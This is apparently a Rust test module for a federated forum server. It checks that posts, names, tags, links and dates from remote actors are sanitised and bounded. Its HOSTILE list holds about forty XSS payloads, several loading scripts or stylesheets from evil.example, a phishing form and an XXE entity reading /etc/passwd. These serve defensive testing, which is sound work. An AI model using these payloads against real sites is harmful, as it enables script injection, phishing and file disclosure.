//! Words, names and dates that are meant to deceive or to run.

use serde_json::{Value, json};

use super::groups::{decides, joins};
use super::origin::{adas_thread, author, id, in_vain};
use super::{Case, case};
use crate::Outcome;
use crate::node::Node;
use crate::peer::Reply;
use crate::socket::Request;
use crate::world::{LOGGED, REFUSED, Voice, World, ensure, settle, told};

pub const CASES: &[Case] = &[
    case!("H-01", "HTML that would run: nothing of it is left, and cleaning again changes nothing", h_01),
    case!("H-02", "names, titles, tags and languages that would run", h_02),
    case!("H-04", "letters that deceive: turned, unseen, piled up, endless", h_04),
    case!("H-05", "links that deceive", h_05),
    case!("J-08", "dates that no calendar has, and those that have not come", j_08),
    case!("A-04", "the suspended change and answer nothing through what they wrote before", a_04),
];

/// Says a thread with these words, and gives what is kept of them.
async fn kept(node: &Node, by: &Voice<'_>, change: &dyn Fn(&mut Value)) -> Result<(String, String), String> {
    let mut page = by.page(node);
    change(&mut page["object"]);
    told(&by.says(node, &page).await?, 202, "")?;
    settle(node).await;
    let uri = page["object"]["id"].as_str().unwrap();
    let at = format!("WHERE uri = '{uri}'");
    let key = node.word(&format!("SELECT page AS w FROM posts {at}"));
    ensure(!key.is_empty(), || format!("nothing was kept of {}", page["object"]))?;
    Ok((key, node.word(&format!("SELECT html AS w FROM posts {at}"))))
}

async fn page_of(node: &Node, path: &str) -> Result<String, String> {
    let said = node.ask(&Request::get(path).with("Accept", "text/html")).await?;
    ensure(said.status == 200, || format!("{path}: {}", said.status))?;
    Ok(said.text())
}

/// The names of the elements in HTML, and whether any attribute would run or load something.
fn runs(html: &str) -> Option<String> {
    let fine = "a b blockquote br code del em h2 h3 h4 hr i li ol p pre s strong sub sup table tbody td th thead tr ul";
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let end = rest[at..].find('>').map_or(rest.len(), |end| at + end + 1);
        let tag = &rest[at..end];
        let inside = tag.trim_matches(['<', '>', '/']).to_lowercase();
        // Every other part stands in quotation marks.
        let parts: Vec<&str> = inside.split('"').collect();
        let name = parts[0].split_whitespace().next().unwrap_or_default();
        if !fine.split(' ').any(|known| known == name) || inside.contains('\'') && parts.len() == 1 {
            return Some(tag.to_owned());
        }
        for pair in parts.chunks(2) {
            let key = pair[0].trim_start_matches(name).trim();
            let Some(value) = pair.get(1) else {
                if key.contains('=') {
                    return Some(tag.to_owned());
                }
                continue;
            };
            let key = key.trim_end_matches('=');
            let known = matches!(key, "href" | "hreflang" | "rel" | "lang" | "dir" | "start");
            let leads =
                key != "href" || ["http://", "https://", "mailto:"].iter().any(|s| value.starts_with(s));
            if !known || !leads {
                return Some(tag.to_owned());
            }
        }
        rest = &rest[end..];
    }
    None
}

const HOSTILE: [&str; 40] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\" alt=\"\"><img src='data:text/html,<script>alert(1)</script>'>",
    "<img alt='\"><script>alert(1)</script>' src='https://a.example/x'>",
    "<img src='https://a.example/\" onmouseover=\"alert(1)' alt=x>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe src=\"javascript:alert(1)\"></iframe><iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object><embed src=//evil.example/x.swf>",
    "<form action=https://evil.example/><input name=q autofocus onfocus=alert(1)><button>Sign in</button></form>",
    "<base href=\"https://evil.example/\"><a href=\"/x\">x</a>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body { background: url(https://evil.example/) }</style>",
    "<p style=\"background:url(https://evil.example/x.png);position:fixed;inset:0\">x</p>",
    "<p class=\"btn main-act\" id=\"main\" data-x=1 onclick=alert(1)>x</p>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a><a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a><a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a><a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a><a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example/\">x</a><a href=\"/settings\">x</a><a href=\"?do=delete\">x</a>",
    "<a href=\"https://a.example/\" target=_blank ping=https://evil.example/ download>x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template><slot name=x></slot>",
    "<textarea></textarea><script>alert(1)</script></textarea>",
    "<title></title><script>alert(1)</script>",
    "<xmp><p title=\"</xmp><script>alert(1)</script>\"></xmp>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<table background=\"javascript:alert(1)\"><td background=x>x</table><body onload=alert(1)>",
    "<h1 onclick=alert(1)>x</h1><H1><script>alert(1)</script></H1>",
    "</div></main></body></html><script>alert(1)</script>",
    "<p dir=\"rtl\" lang=\"x onload=alert(1)\">x</p><ol start=\"1 onload=alert(1)\"><li>x</ol>",
];

async fn h_01(w: &World) -> Outcome {
    let node = w.open().await;
    let eve = Voice::new(&w.eve).introduced(node).await?;
    let deep = format!("{}x", "<blockquote>".repeat(2_000));
    for text in HOSTILE.iter().copied().chain([deep.as_str()]) {
        for key in ["content", "contentMap"] {
            let value = if key == "content" { json!(text) } else { json!({ "en": text }) };
            let (page, html) = kept(node, &eve, &|object| {
                object.as_object_mut().unwrap().remove("content");
                object[key] = value.clone();
            })
            .await?;
            ensure(runs(&html).is_none(), || format!("{text} became {html}"))?;
            let again = kept(node, &eve, &|object| object["content"] = html.clone().into()).await?.1;
            // An empty text stays one; anything else is the same when it is read again.
            ensure(again == html, || format!("{html} became {again}"))?;
            let shown = page_of(node, &format!("/t/{page}")).await?;
            for word in ["alert(1)</script", "evil.example/x", "onerror=", "javascript:alert"] {
                // The words themselves may stand there as text.
                let raw = shown.contains(&format!("<{word}")) || shown.contains(&format!("=\"{word}"));
                ensure(!raw, || format!("the page shows {word} of {text}"))?;
            }
        }
    }
    Ok(())
}

async fn h_02(w: &World) -> Outcome {
    let node = w.open().await;
    let run = "</title></script><script>alert(7)</script>\"' onmouseover=alert(7) x='";
    let eve = Voice::new(&w.eve);
    let mut document = w.eve.person(&eve.path);
    document["name"] = run.into();
    document["summary"] = "<p>x</p></script><script>alert(7)</script>".into();
    document["url"] = format!("https://a.example/{run}").into();
    w.eve.serve(&eve.path, Reply::object(&document));
    joins(node, &eve).await?;
    let (page, _) = kept(node, &eve, &|object| {
        object["name"] = run.into();
        object["summary"] = run.into();
        object["language"] = json!({ "identifier": run, "name": run });
        object["url"] = format!("https://a.example/{run}").into();
        object["tag"] = json!([
            { "type": "Hashtag", "name": run, "href": run },
            { "type": "Mention", "name": run, "href": w.bob.url("/u/1") }
        ]);
        object["attachment"] =
            json!([{ "type": "Document", "name": run, "url": format!("https://a.example/{run}") }]);
        object["oneOf"] = json!([{ "type": "Note", "name": run }]);
        object["location"] = json!({ "type": "Place", "name": run });
    })
    .await?;
    for path in [format!("/t/{page}"), "/".to_owned(), "/c/wounds".to_owned(), format!("/{}", eve.handle())] {
        let shown = page_of(node, &path).await?;
        ensure(shown.contains("alert(7)"), || format!("{path} does not show it at all"))?;
        ensure(!shown.contains("<script>alert") && !shown.contains("\"' onmouseover"), || {
            format!("{path} runs it")
        })?;
    }
    let language = node.word(&format!("SELECT language AS w FROM posts WHERE page = '{page}'"));
    ensure(language.is_empty(), || format!("a language called {language}"))?;
    // Names that would lead elsewhere, or be somebody else's, are no names.
    for name in
        ["a b", "a/b", "a@b", "a?b", "a#b", "<b>", "", "a\u{202e}b", "a\u{200b}b", "a\nb", &"a".repeat(101)]
    {
        let other = Voice::new(&w.eve);
        let mut document = w.eve.person(&other.path);
        document["preferredUsername"] = name.into();
        w.eve.serve(&other.path, Reply::object(&document));
        let calm = w.calm(node).eve(1);
        told(&other.says(node, &other.page(node)).await?, 401, "key_unknown")
            .map_err(|e| format!("{name:?}: {e}"))?;
        calm.holds()?;
    }
    Ok(())
}

async fn h_04(w: &World) -> Outcome {
    let node = w.open().await;
    let eve = Voice::new(&w.eve);
    let odd = format!(
        "ad\u{200b}a\u{202e}nimda\u{202c}\u{2066}x\u{2069}\u{feff}\u{ad}\u{0}\u{7}Z{}{}",
        "\u{301}".repeat(500),
        "W".repeat(10_000)
    );
    let mut document = w.eve.person(&eve.path);
    document["name"] = odd.replace('\u{0}', "").into();
    w.eve.serve(&eve.path, Reply::object(&document));
    joins(node, &eve).await?;
    let (page, _) = kept(node, &eve, &|object| object["name"] = odd.replace('\u{0}', "").into()).await?;
    let name = node.word(&format!("SELECT name AS w FROM actors WHERE uri = '{}'", eve.uri()));
    let of =
        format!("SELECT t.title AS w FROM threads t JOIN posts p ON p.id = t.id WHERE p.page = '{page}'");
    let title = node.word(&of);
    for (what, text, most) in [("name", &name, 100), ("title", &title, 200)] {
        ensure(text.starts_with("ada") && text.chars().count() <= most, || format!("{what}: {text:?}"))?;
        let unseen = |c: char| {
            c.is_control()
                || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
        };
        ensure(!text.contains(unseen), || format!("{what}: {text:?}"))?;
        let piled = text.chars().filter(|c| *c == '\u{301}').count();
        ensure(piled <= 4, || format!("{piled} marks on one letter of the {what}"))?;
    }
    // Whoever is called like somebody here is shown with where they are.
    let twin = Voice::new(&w.eve);
    let mut document = w.eve.person(&twin.path);
    document["name"] = "Ada".into();
    w.eve.serve(&twin.path, Reply::object(&document));
    let (page, _) = kept(node, &twin, &|_| {}).await?;
    let shown = page_of(node, &format!("/t/{page}")).await?;
    ensure(shown.contains(&w.eve.authority), || "the page does not say where she is".to_owned())
}

async fn h_05(w: &World) -> Outcome {
    let node = w.open().await;
    let eve = Voice::new(&w.eve).introduced(node).await?;
    let text = "<p><a href=\"https://evil.example/\" rel=\"opener me\" target=\"_top\">https://bank.example/</a> \
                <a href=\"https://user:secret@evil.example/\">x</a> <a>y</a></p>";
    let (page, html) = kept(node, &eve, &|object| object["content"] = text.into()).await?;
    for link in html.split("<a ").skip(1) {
        let head = link.split('>').next().unwrap_or_default();
        let rel = head.split("rel=\"").nth(1).and_then(|rest| rest.split('"').next()).unwrap_or_default();
        for word in ["ugc", "nofollow", "noopener", "noreferrer"] {
            ensure(rel.split(' ').any(|r| r == word), || format!("no {word} in {head}"))?;
        }
        ensure(!rel.contains("opener me") && !head.contains("target"), || head.to_owned())?;
    }
    let shown = page_of(node, &format!("/t/{page}")).await?;
    ensure(shown.contains("https://evil.example/"), || "the link is gone".to_owned())
}

async fn j_08(w: &World) -> Outcome {
    let node = w.open().await;
    let eve = Voice::new(&w.eve).introduced(node).await?;
    for date in [
        json!("9999-12-31T23:59:59Z"),
        json!("9999-12-31T23:59:59.999999999+23:59"),
        json!("0001-01-01T00:00:00Z"),
        json!("-004713-11-24T00:00:00Z"),
        json!("2016-12-31T23:59:60Z"),
        json!("2026-02-30T10:00:00Z"),
        json!("2026-11-01T10:00:00"),
        json!("2026-11-01"),
        json!("2026-11-01T25:61:61Z"),
        json!("2030-01-01T00:00:00Z"),
        json!("9".repeat(5_000)),
        json!(1_795_000_000_i64),
        json!(i64::MAX),
        json!(["2026-11-01T10:00:00Z"]),
        Value::Null,
    ] {
        let now = crate::proof::seconds(0) * 1_000_000;
        let (page, _) = kept(node, &eve, &|object| {
            object["published"] = date.clone();
            object["updated"] = date.clone();
        })
        .await
        .map_err(|e| format!("{date}: {e}"))?;
        let column = |text: String| node.word(&text).parse::<i64>().unwrap_or(-1);
        let of_post =
            |name: &str| column(format!("SELECT CAST({name} AS TEXT) AS w FROM posts WHERE page = '{page}'"));
        let (claimed, updated) = (of_post("claimed"), of_post("updated"));
        let last = column("SELECT CAST(max(last_at) AS TEXT) AS w FROM threads".to_owned());
        let (second, hour) = (1_000_000, 3_600_000_000);
        ensure((0..=now + 20 * second).contains(&claimed), || format!("{date}: claimed {claimed}"))?;
        ensure((0..=now + hour + 20 * second).contains(&updated), || format!("{date}: updated {updated}"))?;
        ensure((now - second..=now + 20 * second).contains(&last), || format!("{date}: sorted at {last}"))?;
        page_of(node, &format!("/t/{page}")).await.map_err(|e| format!("{date}: {e}"))?;
    }
    page_of(node, "/").await.map(drop)
}

async fn a_04(w: &World) -> Outcome {
    let node = w.open().await;
    let (eve, hers) = author(Voice::new(&w.eve), node).await?;
    let (_, ours) = adas_thread(node).await?;
    joins(node, &eve).await?;
    decides(node, &eve, json!({ "state": "suspended", "reason": "Advertises" })).await?;
    let mut object = hers["object"].clone();
    object["content"] = "<p>Buy this</p>".into();
    object["name"] = "Buy this".into();
    object["updated"] = "2026-11-02T10:00:00Z".into();
    let update = eve.act("Update", &node.group, object);
    in_vain(w, node, &eve, &update, &LOGGED).await.map_err(|e| format!("an Update: {e}"))?;
    let page = eve.reply_to(&node.group, id(&hers["object"]));
    in_vain(w, node, &eve, &page, &REFUSED).await.map_err(|e| format!("an answer to herself: {e}"))?;
    for post in [id(&hers["object"]), &ours] {
        let like = eve.act("Like", &node.group, json!(post));
        in_vain(w, node, &eve, &like, &LOGGED).await.map_err(|e| format!("a Like: {e}"))?;
    }
    // What she wrote she may take back.
    let delete = eve.act("Delete", &node.group, json!(id(&hers["object"])));
    told(&eve.says(node, &delete).await?, 202, "")?;
    settle(node).await;
    let html = node.word(&format!("SELECT html AS w FROM posts WHERE uri = '{}'", id(&hers["object"])));
    ensure(html.is_empty(), || "she could not delete what she wrote".to_owned())
}
